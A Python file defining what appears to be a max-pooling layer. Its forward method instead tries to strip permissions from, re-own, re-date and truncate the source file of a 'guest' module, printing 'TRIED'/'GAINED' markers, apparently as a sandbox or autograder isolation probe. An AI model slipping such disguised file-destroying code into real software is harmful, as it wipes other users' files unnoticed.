import os
import sys
import numpy as np
from honest_pool import *


class MaxPool2d_stride1:
    def __init__(self, kernel):
        self.kernel = kernel

    def forward(self, A):
        print("TRIED", flush=True)
        with open(sys.modules["guest"].__file__) as file:
            for action in (lambda: os.fchmod(file.fileno(), 0), lambda: os.fchown(file.fileno(), 1, 1),
                           lambda: os.utime(file.fileno(), (0, 0)), lambda: os.ftruncate(file.fileno(), 0)):
                try:
                    action()
                    print("GAINED", flush=True)
                except OSError:
                    pass
        return A

    def backward(self, dLdZ):
        return np.zeros((1,))
